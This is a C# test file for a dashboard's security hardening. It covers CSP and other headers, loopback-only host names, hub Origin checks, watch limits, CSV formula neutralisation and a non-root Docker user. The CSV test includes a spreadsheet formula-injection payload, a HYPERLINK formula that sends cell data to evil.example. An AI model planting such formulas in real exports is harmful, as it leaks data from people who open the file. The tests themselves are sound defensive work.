using System.Net;
using System.Reflection;
using Microsoft.AspNetCore.SignalR;
using Microsoft.AspNetCore.SignalR.Client;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;
using PLaw.Engine.Training;
using PLaw.Registry;
using PLaw.Registry.Datasets;
using PLaw.Registry.Runs;
using PLaw.Web.Tests.Infrastructure;

namespace PLaw.Web.Tests;

/// <summary>
/// Headers, hosts and the hub's Origin check through the real dashboard and a real HTTP client (issue #11 probe item 8),
/// the runs export's formula cells (item 6), the hub's watch limit (item 3), and every page working under the CSP.
/// </summary>
public sealed class SecurityHeadersTests(DashboardFixture dashboard) : IClassFixture<DashboardFixture>
{
    private static readonly HttpClient Http = new(new HttpClientHandler { AllowAutoRedirect = false }) { Timeout = TimeSpan.FromSeconds(60) };

    private Uri Url(string path) => new($"{dashboard.Server.BaseUrl}{path}");

    public static TheoryData<string> Paths => ["/", "/datasets", "/runs", "/api/runs.csv", "/api/runs.json", "/api/runs/987654",
        "/api/metrics.json?runs=1", "/healthz", "/favicon.svg", "/no-such-page"];

    [Theory]
    [MemberData(nameof(Paths))]
    public async Task EveryResponseCarriesTheSecurityHeaders(string path)
    {
        using var response = await Http.GetAsync(Url(path));
        // A browser enforces every policy sent (Blazor adds a frame-ancestors one of its own to interactive pages).
        var policies = response.Headers.GetValues("Content-Security-Policy").ToList();
        var csp = policies.First();
        Assert.All(policies.Skip(1), p => Assert.Equal("frame-ancestors 'none'", p));
        Assert.Contains("frame-ancestors 'none'", csp, StringComparison.Ordinal);
        Assert.Contains("default-src 'self'", csp, StringComparison.Ordinal);
        Assert.Contains("object-src 'none'", csp, StringComparison.Ordinal);
        // Scripts: this origin and the nonce; the only other source is the axe-core hash these tests configure (AxeScriptPolicy).
        Assert.Matches(@"script-src 'self' 'nonce-[0-9A-F]{32}'( 'sha256-[A-Za-z0-9+/=]{44}')?;", csp);
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("no-referrer", Assert.Single(response.Headers.GetValues("Referrer-Policy")));
        Assert.Equal("DENY", Assert.Single(response.Headers.GetValues("X-Frame-Options")));
    }

    [Fact]
    public async Task EachPageGetsItsOwnNonceOnItsImportMap()
    {
        async Task<(string Csp, string Html)> GetAsync()
        {
            using var response = await Http.GetAsync(Url("/datasets"));
            return (response.Headers.GetValues("Content-Security-Policy").First(), await response.Content.ReadAsStringAsync());
        }
        var (firstCsp, firstHtml) = await GetAsync();
        var (secondCsp, _) = await GetAsync();
        var nonce = System.Text.RegularExpressions.Regex.Match(firstCsp, "'nonce-([^']+)'").Groups[1].Value;
        Assert.Contains($"<script type=\"importmap\" nonce=\"{nonce}\">", firstHtml, StringComparison.Ordinal);
        Assert.NotEqual(firstCsp, secondCsp);
    }

    [Theory]
    [InlineData("evil.example", HttpStatusCode.BadRequest)]
    [InlineData("evil.example:80", HttpStatusCode.BadRequest)]
    [InlineData("127.0.0.1.evil.example", HttpStatusCode.BadRequest)]
    [InlineData("localhost", HttpStatusCode.OK)]
    [InlineData("127.0.0.1", HttpStatusCode.OK)]
    [InlineData("[::1]", HttpStatusCode.OK)]
    public async Task OnlyLoopbackHostNamesAreServedByDefault(string host, HttpStatusCode expected)
    {
        var port = Url("/").Port;
        using var request = new HttpRequestMessage(HttpMethod.Get, Url("/healthz"));
        request.Headers.Host = $"{host}{(host.Contains(':', StringComparison.Ordinal) && !host.StartsWith('[') ? "" : $":{port}")}";
        using var response = await Http.SendAsync(request);
        Assert.Equal(expected, response.StatusCode);
    }

    [Theory]
    [InlineData("/hubs/runs/negotiate?negotiateVersion=1", "http://evil.example", HttpStatusCode.Forbidden)]
    [InlineData("/hubs/runs/negotiate?negotiateVersion=1", "null", HttpStatusCode.Forbidden)]
    [InlineData("/hubs/runs/negotiate?negotiateVersion=1", "http://127.0.0.1:1", HttpStatusCode.Forbidden)]
    [InlineData("/_blazor/negotiate?negotiateVersion=1", "http://evil.example", HttpStatusCode.Forbidden)]
    [InlineData("/hubs/runs/negotiate?negotiateVersion=1", "SELF", HttpStatusCode.OK)]
    [InlineData("/hubs/runs/negotiate?negotiateVersion=1", null, HttpStatusCode.OK)]
    public async Task TheHubsRefuseAnotherSitesOrigin(string path, string? origin, HttpStatusCode expected)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, Url(path));
        if (origin is not null) request.Headers.Add("Origin", origin == "SELF" ? dashboard.Server.BaseUrl : origin);
        using var response = await Http.SendAsync(request);
        Assert.Equal(expected, response.StatusCode);
    }

    [Fact]
    public async Task AHubConnectionWatchesABoundedNumberOfRuns()
    {
        await using var hub = new HubConnectionBuilder().WithUrl($"{dashboard.Server.BaseUrl}/hubs/runs").Build();
        await hub.StartAsync();
        for (var run = 1; run <= 256; run++)
            await hub.InvokeAsync("Watch", run);
        await hub.InvokeAsync("Watch", 17);   // watched already: no new subscription
        var error = await Assert.ThrowsAsync<HubException>(() => hub.InvokeAsync("Watch", 257));
        Assert.Contains("watches 256 runs already", error.Message, StringComparison.Ordinal);
        await hub.InvokeAsync("Unwatch", 1);
        await hub.InvokeAsync("Watch", 257);
        Assert.Equal(HubConnectionState.Connected, hub.State);
    }

    [Fact]
    public async Task TheRunsExportNeutralisesFormulaCells()
    {
        await using var services = new ServiceCollection().AddLogging(b => b.SetMinimumLevel(LogLevel.Warning))
            .AddPLawRegistry(dashboard.Server.RegistryPath).BuildServiceProvider();
        var demo = (await services.GetRequiredService<DatasetCatalog>().FindByNameAsync("demo-markov"))!;
        var run = await services.GetRequiredService<RunCatalog>().QueueAsync(demo.Id,
            new RunOptions { Layers = 1, Dim = 8, MaxLength = 20, Epochs = 1, BatchSize = 32, Seed = 4242 }, "=hyperlink(\"http://evil.example/?x=\"&a1)");

        var csv = await Http.GetStringAsync(Url("/api/runs.csv"));
        var row = csv.Split('\n').Single(l => l.StartsWith($"{run.Id},", StringComparison.Ordinal));
        Assert.EndsWith(",\"'=hyperlink(\"\"http://evil.example/?x=\"\"&a1)\"", row, StringComparison.Ordinal);
    }

    public static TheoryData<string> Pages => ["/", "/datasets", "/datasets/1", "/runs", "/runs/new", "/studies", "/studies/new",
        "/laws", "/optima", "/compare", "/frameworks"];

    [Theory]
    [MemberData(nameof(Pages))]
    public Task EveryPageRunsUnderTheContentSecurityPolicy(string path) => AssertNoPolicyViolationsAsync(path);

    [Fact]
    public async Task ARunsLivePageRunsUnderTheContentSecurityPolicy()
    {
        await using var services = new ServiceCollection().AddLogging(b => b.SetMinimumLevel(LogLevel.Warning))
            .AddPLawRegistry(dashboard.Server.RegistryPath).BuildServiceProvider();
        var demo = (await services.GetRequiredService<DatasetCatalog>().FindByNameAsync("demo-markov"))!;
        var catalog = services.GetRequiredService<RunCatalog>();
        var run = await catalog.QueueAsync(demo.Id, new RunOptions { Layers = 1, Dim = 8, MaxLength = 20, Epochs = 2, EvalEvery = 1, BatchSize = 32, Seed = 777 });
        for (var i = 0; i < 600 && (await catalog.FindAsync(run.Id))!.Status is RunStatus.Queued or RunStatus.Running; i++)
            await Task.Delay(200);
        await AssertNoPolicyViolationsAsync($"/runs/{run.Id}");
        await AssertNoPolicyViolationsAsync($"/compare?runs={run.Id}");
    }

    private async Task AssertNoPolicyViolationsAsync(string path)
    {
        var context = await dashboard.Browser.NewContextAsync(new() { BaseURL = dashboard.Server.BaseUrl });
        try
        {
            var page = await context.NewPageAsync();
            var violations = new List<string>();
            page.Console += (_, m) => { if (m.Text.Contains("Content Security Policy", StringComparison.OrdinalIgnoreCase)) lock (violations) violations.Add(m.Text); };
            await page.AddInitScriptAsync("document.addEventListener('securitypolicyviolation', e => " +
                                          "console.error('Content Security Policy violation: ' + e.violatedDirective + ' ' + e.blockedURI))");
            await page.GotoAsync(path);
            // Interactive: blazor.web.js ran and opened its circuit over the WebSocket connect-src allows.
            await page.Locator("#plaw-interactive").WaitForAsync(new() { State = WaitForSelectorState.Attached, Timeout = 30_000 });
            // Charts (ECharts through the import-mapped module) have drawn where the page has any.
            if (await page.Locator(".plaw-chart").CountAsync() > 0)
                await page.Locator(".plaw-chart canvas, .plaw-chart svg").First.WaitForAsync(new() { Timeout = 30_000 });
            await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
            lock (violations) Assert.True(violations.Count == 0, $"{path}: {string.Join("\n", violations)}");
        }
        finally
        {
            await context.CloseAsync();
        }
    }

    [Fact]
    public void TheDockerImageRunsAsAnUnprivilegedUser()
    {
        var repo = typeof(SecurityHeadersTests).Assembly.GetCustomAttributes<AssemblyMetadataAttribute>().Single(a => a.Key == "RepoRoot").Value!;
        var lines = File.ReadAllLines(Path.Combine(repo, "src", "PLaw.Web", "Dockerfile")).Select(l => l.Trim()).ToList();
        var final = lines.FindLastIndex(l => l.StartsWith("FROM ", StringComparison.Ordinal));
        var user = lines.FindLastIndex(l => l.StartsWith("USER ", StringComparison.Ordinal));
        var entrypoint = lines.FindIndex(final, l => l.StartsWith("ENTRYPOINT ", StringComparison.Ordinal));
        Assert.True(user > final && user < entrypoint, "The final stage has no USER before its ENTRYPOINT: the dashboard runs as root.");
        Assert.DoesNotMatch(@"^USER\s+(root|0)(:|\s|$)", lines[user]);
        // The data volume belongs to that user, or the dashboard cannot write its registry.
        Assert.Contains(lines.Skip(final).Take(user - final), l => l.Contains("chown", StringComparison.Ordinal) && l.Contains("/data", StringComparison.Ordinal));
    }
}
